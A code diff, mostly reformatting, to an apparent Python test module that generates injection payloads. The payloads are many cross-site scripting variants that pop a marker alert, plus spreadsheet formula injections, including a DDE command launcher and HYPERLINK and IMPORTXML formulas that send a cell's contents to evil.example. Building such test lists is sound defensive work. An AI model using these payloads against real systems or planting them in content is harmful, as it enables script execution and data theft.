@@ -1,7 +1,8 @@
-"""What somebody would write into a message to have it run elsewhere: in a browser, a spreadsheet, a terminal, a template.
+"""What somebody would write into a message to have it run elsewhere: in a browser, a spreadsheet, a terminal,
+a template.
 
-Those for a browser all try the same two things, a dialog and `window.owned`, so that one look tells whether any of
-them ran. None holds a control character that properties use as a separator.
+Those for a browser all try the same two things, a dialog and `window.owned`, so that one look tells whether
+any of them ran. None holds a control character that properties use as a separator.
 """
 
 from __future__ import annotations
@@ -10,8 +11,30 @@ import base64
 
 RUN = "alert(window.owned=1)"
 
-_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe", "object data=x", "marquee", "select autofocus", "textarea autofocus")
-_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onstart")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "audio src=x",
+    "input autofocus",
+    "details open",
+    "iframe",
+    "object data=x",
+    "marquee",
+    "select autofocus",
+    "textarea autofocus",
+)
+_EVENTS = (
+    "onerror",
+    "onload",
+    "onfocus",
+    "ontoggle",
+    "onmouseover",
+    "onanimationstart",
+    "onpointerenter",
+    "onstart",
+)
 _ELEMENTS = (
     "<script>{run}</script>",
     "<ScRiPt>{run}</sCrIpT>",
@@ -49,8 +72,29 @@ _ELEMENTS = (
     "<![CDATA[<script>{run}</script>]]>",
     "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
 )
-_ENDS = ("", "'", '"', "'>", '">', "</title>", "</textarea>", "</pre>", "</script>", "</style>", "-->", "]]>", "</td></tr></table>", "\\'", '\\"')
-_BEHIND = ("<script>{run}</script>", "<img src=x onerror={run}>", " onmouseover={run} autofocus onfocus={run} x=", ";{run}//")
+_ENDS = (
+    "",
+    "'",
+    '"',
+    "'>",
+    '">',
+    "</title>",
+    "</textarea>",
+    "</pre>",
+    "</script>",
+    "</style>",
+    "-->",
+    "]]>",
+    "</td></tr></table>",
+    "\\'",
+    '\\"',
+)
+_BEHIND = (
+    "<script>{run}</script>",
+    "<img src=x onerror={run}>",
+    " onmouseover={run} autofocus onfocus={run} x=",
+    ";{run}//",
+)
 _WORDS = (
     "javascript:{run}",
     "JaVaScRiPt:{run}",
@@ -96,7 +140,7 @@ FORMULAS = (
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
-    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
     "+1+1",
     "-2+3",
     "@SUM(1+1)",
@@ -110,8 +154,14 @@ FORMULAS = (
 def _browser() -> list[str]:
     handlers = [f"<{tag} {event}={{run}}>" for tag in _TAGS for event in _EVENTS]
     behind = [end + rest for end in _ENDS for rest in _BEHIND]
-    coded = [f"<iframe src=data:text/html;base64,{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}></iframe>"]
-    return [text.replace("{run}", RUN) for text in (*handlers, *_ELEMENTS, *behind)] + coded + [text.format(run=RUN) for text in _WORDS]
+    coded = [
+        f"<iframe src=data:text/html;base64,{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}></iframe>"
+    ]
+    return (
+        [text.replace("{run}", RUN) for text in (*handlers, *_ELEMENTS, *behind)]
+        + coded
+        + [text.format(run=RUN) for text in _WORDS]
+    )
 
 
 PAYLOADS = tuple(dict.fromkeys((*_browser(), *FORMULAS)))
